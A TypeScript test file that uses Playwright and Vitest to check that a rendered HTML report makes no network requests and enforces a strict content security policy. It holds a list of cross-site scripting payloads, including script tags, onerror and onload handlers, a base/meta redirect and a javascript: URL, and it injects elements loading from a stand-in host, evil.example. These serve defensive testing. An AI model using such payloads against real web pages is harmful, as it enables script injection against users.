import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ReportInput } from '../../src/report/compose.ts'
import { largeReport } from '../support/large-report.ts'
import { situations } from '../support/report-situations.ts'
import { openReport, renderReport, startBrowser } from './support/open-report.ts'

let browser: Browser
beforeAll(async () => {
  browser = await startBrowser()
})
afterAll(() => browser.close())

const ATTACKS = [
  '<script>owned = 1</script>',
  '"><img src=http://evil.example/x onerror="owned = 1">',
  "' autofocus onfocus='owned = 1",
  '</style></table></details><svg onload="owned = 1">',
  '<base href=http://evil.example/><meta http-equiv=refresh content="0;url=http://evil.example/">',
  'javascript:owned=1',
]
const ids = (input: ReportInput): ReportInput => ({
  ...input,
  comparison: input.comparison && {
    ...input.comparison,
    flips: input.comparison.flips.map((flip, at) => {
      const attack = ATTACKS[at % ATTACKS.length] ?? ''
      return { ...flip, id: attack + at, target: attack, base: attack, head: attack }
    }),
  },
})

describe('the page', () => {
  it.each([...situations.keys()])(
    '%s: asks for nothing, and its policy refuses nothing that it needs',
    async (name) => {
      const { complaints, requests, page } = await openReport(
        browser,
        await renderReport(situations.get(name) as ReportInput),
      )
      expect({ complaints, requests }).toEqual({ complaints: [], requests: [] })
      await page.context().close()
    },
  )

  it('runs nothing of what examples are called, before and after they are filtered', async () => {
    const { page, requests, complaints } = await openReport(
      browser,
      await renderReport(ids(largeReport({ metrics: 20, slices: 20, flips: 600 }))),
    )
    await page.getByRole('searchbox', { name: 'Filter Examples that changed sides' }).fill('script')
    const choice = page.getByRole('combobox', { name: 'target, Examples that changed sides' })
    await choice.selectOption({ index: 2 })
    expect(await page.evaluate('typeof owned')).toBe('undefined')
    expect({ complaints, requests }).toEqual({ complaints: [], requests: [] })
  })

  it('lets nobody add a script, a style or a picture', async () => {
    const { page, requests } = await openReport(
      browser,
      await renderReport(largeReport({ slices: 9, flips: 9 })),
    )
    await page.evaluate(`
      const add = (tag, fields) => { try { document.body.append(Object.assign(document.createElement(tag), fields)) } catch {} }
      add('script', { textContent: 'owned = 1' })
      add('script', { src: 'http://evil.example/x.js' })
      add('img', { src: 'http://evil.example/x.png' })
      add('iframe', { src: 'http://evil.example/' })
      try { document.body.innerHTML += '<b id="added">x</b>' } catch {}
    `)
    expect(await page.evaluate('typeof owned + document.querySelectorAll("#added").length')).toBe(
      'undefined0',
    )
    expect(requests).toEqual([])
  })
})
